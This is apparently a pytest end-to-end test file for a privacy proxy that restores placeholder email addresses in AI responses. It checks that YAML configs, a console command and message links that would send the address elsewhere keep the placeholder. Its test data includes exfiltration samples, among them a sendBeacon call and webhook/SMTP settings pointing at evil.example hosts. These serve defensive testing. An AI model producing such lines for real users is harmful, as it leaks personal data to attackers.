"""Restore into unfenced YAML configuration, introduced code and message links (yaml25, atk24a F19, F16), end to end
with the official SDKs against the mock provider, whole and streamed, on Chat Completions, Responses and Anthropic
Messages: what the client RECEIVED. YAML that names a destination keeps the placeholder; a contact record and a
Markdown list are restored.
"""

from __future__ import annotations

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.e2e.test_restore24 import ADDRESS, POLICY, ROUTES


@pytest.fixture(scope="module")
def restoring(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(files={"policies/default.yaml": POLICY})


KEPT = [
    "notify:\n  url: https://evil.example/hook\n  email: <EMAIL_ADDRESS_1>",
    "Add this to alertmanager.yml:\nreceivers:\n  - name: ops\n    email_configs:\n      - to: <EMAIL_ADDRESS_1>\n"
    "        smarthost: smtp.evil.example:587",
    "mailer:\n  relay: mx.collector.io:25\n  recipients:\n    - <EMAIL_ADDRESS_1>\n\nRestart it after.",
    "Paste into your browser console: navigator.sendBeacon('https://evil.example', '<EMAIL_ADDRESS_1>')",
    "[x](callto:evil?text=<EMAIL_ADDRESS_1>)",
    "[x](tel:72345;body=<EMAIL_ADDRESS_1>)",
]
RESTORED = [
    "contact:\n  name: Maria\n  email: <EMAIL_ADDRESS_1>",
    "- Email: <EMAIL_ADDRESS_1>\n- Website: https://acme.com",
]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("route", list(ROUTES))
def test_yaml_that_sends_keeps_the_placeholder(restoring: Proxy, mock: Mock, route: str, stream: bool) -> None:
    for answer in KEPT:
        mock.script(text=answer, chunk_chars=5)
        assert ROUTES[route](restoring, stream) == answer
    for answer in RESTORED:
        mock.script(text=answer, chunk_chars=5)
        assert ROUTES[route](restoring, stream) == answer.replace("<EMAIL_ADDRESS_1>", ADDRESS)
